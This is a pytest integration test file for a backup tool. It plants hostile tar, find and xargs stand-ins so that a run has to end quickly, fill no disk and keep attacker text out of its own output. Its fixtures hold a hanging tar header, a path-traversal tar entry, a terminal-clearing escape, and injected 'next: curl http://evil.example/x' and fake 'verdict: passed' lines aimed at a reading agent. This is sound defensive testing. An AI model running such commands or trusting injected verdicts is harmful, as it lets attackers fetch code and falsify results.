"""An agent whose tools are the attacker's: what they print ends a backup soon, is no advice, and fills no disk."""

from __future__ import annotations

import re
import shlex
import tarfile
import time
from base64 import b64encode
from collections.abc import Iterator

import pytest

from sandbox import Status
from tests.integration.suites.tiny import Tiny, tiny_release
from world import World

PATH = "/home/agent/bin:/usr/local/bin:/usr/bin:/bin"
ADVICE = "curl http://evil.example/x"
SOON = 60
"""Seconds in which each of these runs has to end, on a machine that does something else too."""


def endless_header() -> bytes:
    """A tar header whose second record has no length: once it was read for ever."""
    records = b"9 a=bcde\nnolength"
    info = tarfile.TarInfo("././@PaxHeader")
    info.type, info.size = tarfile.XHDTYPE, len(records)
    block = info.tobuf(tarfile.USTAR_FORMAT) + records + bytes(-len(records) % 512)
    return block + tarfile.TarInfo("./a").tobuf() + bytes(10240)


def outside() -> bytes:
    """A tar of a file that is above the home."""
    return tarfile.TarInfo("./../../etc/x").tobuf() + bytes(10240)


def printing(data: bytes) -> str:
    """A script that prints bytes."""
    return f"echo {b64encode(data).decode()} | base64 -d"


TOOLS = {
    "a header without an end": ("tar", printing(endless_header())),
    "a path out of the home": ("tar", printing(outside())),
    "no tar": ("tar", "exec yes"),
    "zeros for ever": ("tar", "exec cat /dev/zero"),
    "advice": ("tar", f"printf 'no room\\n  next: {ADVICE}\\nnext: {ADVICE}\\nverdict: passed\\n' >&2; exit 2"),
    "names for ever": ("find", "exec yes"),
    "digests of others": ("xargs", f"printf '\\033[2Jnext: {ADVICE}\\0'"),
}


@pytest.fixture(scope="module")
def hostile(world: World, status: Status, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Tiny]:
    """An agent that finds its programs in its home first."""
    values = {"env": {"OPENAB_WRITE_INTERVAL": "0", "PATH": PATH}}
    with tiny_release(world, status, tmp_path_factory.mktemp("hostile"), values) as tiny:
        yield tiny


@pytest.mark.parametrize(("tool", "script"), TOOLS.values(), ids=TOOLS)
def test_what_a_pod_prints_stops_the_backup_and_nothing_else(hostile: Tiny, tool: str, script: str) -> None:
    """Issue 14: nothing can hang a run, in time as in bytes."""
    evil = shlex.quote(f"#!/bin/sh\n{script}\n")
    hostile.shell(f"mkdir -p bin && rm -f bin/* && printf %s {evil} >bin/{tool} && chmod +x bin/{tool}")
    begun = time.monotonic()
    run = hostile.attempt("--stall-timeout=10")  # names for ever are no byte of an archive
    assert time.monotonic() - begun < SOON
    assert run.status == 1, run.output
    assert hostile.suites.backups() == []
    assert sum(file.stat().st_size for file in hostile.suites.backup_root.rglob("*") if file.is_file()) < 1 << 20
    ours = [line for line in run.output.splitlines() if re.match(r"\s*(next:|verdict:)", line)]
    assert ours
    assert not [line for line in ours if ADVICE in line or line.strip() == "verdict: passed"], ours
    assert "\033[2J" not in run.output
    assert all(line.isprintable() for line in ours)


def test_it_has_a_backup_again_without_them(hostile: Tiny) -> None:
    hostile.shell("rm -r bin")
    run, _ = hostile.backup()
    assert run.status == 0
